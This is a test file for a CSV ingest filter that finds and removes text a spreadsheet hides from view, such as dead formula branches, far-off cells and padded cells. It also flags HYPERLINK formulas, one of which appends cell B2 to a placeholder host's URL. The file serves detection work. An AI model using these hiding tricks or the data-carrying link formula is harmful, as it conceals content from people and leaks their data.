/** What a spreadsheet does not show of a CSV file is cut; formulas, signs and lines that only look so stay. */
import { describe, expect, it } from 'vitest';
import { shownFormula } from '../../../ingest/formats/csv/formula.ts';
import { extractCsv } from '../../../ingest/formats/csv.ts';
import { type Attack, type LookAlike, SECRET, seenIn } from './text-like.ts';

const row = (cell: string) => `a,b\n"${cell.replaceAll('"', '""')}",x\n`;
const LONG = 'SECRET words that are long enough';

const ATTACKS: readonly Attack[] = [
  [
    'a branch that is never taken',
    row(`=IF(1=2,"${LONG}","shown")`),
    ['a: shown\nb: x'],
    'csv-formula-dead-branch medium',
  ],
  ['the other branch', row(`=IF(TRUE,"shown","${LONG}")`), ['a: shown\nb: x'], 'csv-formula-dead-branch medium'],
  ['a branch beside a cell', row(`=IF(FALSE,"${LONG}",A9)`), ['a: =A9\nb: x'], 'csv-formula-dead-branch medium'],
  [
    'a branch in a sum',
    row(`=SUM(B1:B3)+IF(1>2,N("${LONG}"),0)`),
    ['a: =SUM(B1:B3)+0\nb: x'],
    'csv-formula-dead-branch medium',
  ],
  ['a comment in a number', row(`=12+N("${LONG}")`), ['a: 12\nb: x'], 'csv-formula-dead-branch medium'],
  ['a comment in a sum', row(`=A1+N("${LONG}")`), ['a: =A1\nb: x'], 'csv-formula-dead-branch medium'],
  ['a choice', row(`=CHOOSE(2,"${LONG}","shown")`), ['a: shown\nb: x'], 'csv-formula-dead-branch medium'],
  ['a cut', row(`=LEFT("shown${LONG}",5)`), ['a: shown\nb: x'], 'csv-formula-dead-branch medium'],
  [
    'a text that is only measured',
    row(`=LEN("${LONG}")`),
    [`a: ${LONG.length}\nb: x`],
    'csv-formula-dead-branch medium',
  ],
  [
    'a text that is repeated no times',
    row(`="shown"&REPT("${LONG}",0)`),
    ['a: shown\nb: x'],
    'csv-formula-dead-branch medium',
  ],
  [
    'an error that never comes',
    row(`=IFERROR("shown";"${LONG}")`),
    ['a: shown\nb: x'],
    'csv-formula-dead-branch medium',
  ],
  [
    'the address of a label',
    row('=HYPERLINK("https://x.example/SECRET","shown")'),
    ['a: shown\nb: x'],
    'csv-formula-link info',
  ],
  [
    'an address that takes cells along',
    row('=HYPERLINK("https://x.example/SECRET?"&B2,"shown")'),
    ['a: shown\nb: x'],
    'csv-formula-link medium',
  ],
  ['comment lines', '# SECRET, and "more\na;b\n1;2\n# SECRET\n', ['a: 1\nb: 2'], 'csv-comment-line info'],
  ['a far column', `a,b${','.repeat(80)}SECRET\n1,2${','.repeat(80)}SECRET\n`, ['a: 1\nb: 2'], 'csv-far-cell medium'],
  ['a cell beyond the table', `a,b\n1,2${','.repeat(80)}SECRET\n`, ['a: 1\nb: 2'], 'csv-far-cell medium'],
  ['a row below many empty ones', `a,b\n1,2\n${',\n'.repeat(600)}SECRET,x\n`, ['a: 1\nb: 2'], 'csv-far-cell medium'],
  ['a row below many empty lines', `a,b\n1,2\n${'\n'.repeat(900)}SECRET,x\n`, ['a: 1\nb: 2'], 'csv-far-cell medium'],
  ['text far below in a cell', row(`shown${'\n'.repeat(60)}SECRET`), ['a: shown\nb: x'], 'csv-padded-cell medium'],
];

const LOOK_ALIKES: readonly LookAlike[] = [
  ['a sum', row('=SUM(A1:A3)'), ['a: =SUM(A1:A3)\nb: x']],
  ['a condition on a cell', row('=IF(A1>2,"high","low")'), ['a: =IF(A1>2,"high","low")\nb: x']],
  ['texts that are joined', row('=CONCATENATE("Quay ",B2)&" ""A"""'), ['a: =CONCATENATE("Quay ",B2)&" ""A"""\nb: x']],
  ['a constant condition with short words', row('=IF(TRUE,"yes","no")'), ['a: yes\nb: x']],
  ['a formula of another language', row('=WENN(A1>2;"hoch";"tief")'), ['a: =WENN(A1>2;"hoch";"tief")\nb: x']],
  ['a formula that breaks off', row('=IF(1=2,"x"'), ['a: =IF(1=2,"x"\nb: x']],
  ['a negative number', row('-12.5'), ['a: -12.5\nb: x']],
  ['a telephone number', row('+31 20 555 01'), ['a: +31 20 555 01\nb: x']],
  ['a name with an at sign', row('@dock'), ['a: @dock\nb: x']],
  ['an address of several lines', row('Quay 4\nHall B\n\nKiel'), ['a: Quay 4\n  Hall B\n  \n  Kiel\nb: x']],
  ['a column called #', '#,name\n1,Box\n', ['#: 1\nname: Box']],
  ['numbers with #', 'a,b\n#12,Box\n#13,Crate\n', ['a: #12\nb: Box', 'a: #13\nb: Crate']],
  ['a # in a quoted line', 'a,b\n"one\n# two",x\n', ['a: one\n  # two\nb: x']],
  ['a column of comments in one column', 'word\n# one\n', ['word: # one']],
  ['an empty column at the end', 'a,b,\n1,2,\n', ['a: 1\nb: 2']],
  ['empty rows', 'a,b\n1,2\n,\n,\n\n3,4\n', ['a: 1\nb: 2', 'a: 3\nb: 4']],
];

describe('a spreadsheet', () => {
  it.each(ATTACKS)('does not show, and is cut: %s', async (_what, file, texts, found) => {
    const seen = await seenIn(extractCsv, file);
    expect(seen.texts).toEqual(texts);
    expect(seen.techniques).toContain(found);
    expect(seen.removed).toContain(SECRET);
  });

  it.each(LOOK_ALIKES)('shows, and raises no alarm: %s', async (_what, file, texts) => {
    const seen = await seenIn(extractCsv, file);
    expect(seen.texts).toEqual(texts);
    expect(seen.loud).toEqual([]);
  });

  it('reads the longest formulas in no time and at no depth that hurts', () => {
    const before = performance.now();
    for (const formula of [
      '=("'.repeat(3_000),
      `=${'('.repeat(8_000)}"`,
      `=${'-'.repeat(8_000)}"x"`,
      `=${'"a"&'.repeat(2_000)}"b"`,
      `=${'IF(1=1,'.repeat(1_000)}"x"`,
    ]) {
      shownFormula(formula);
    }
    expect(performance.now() - before).toBeLessThan(1_000);
  });
});
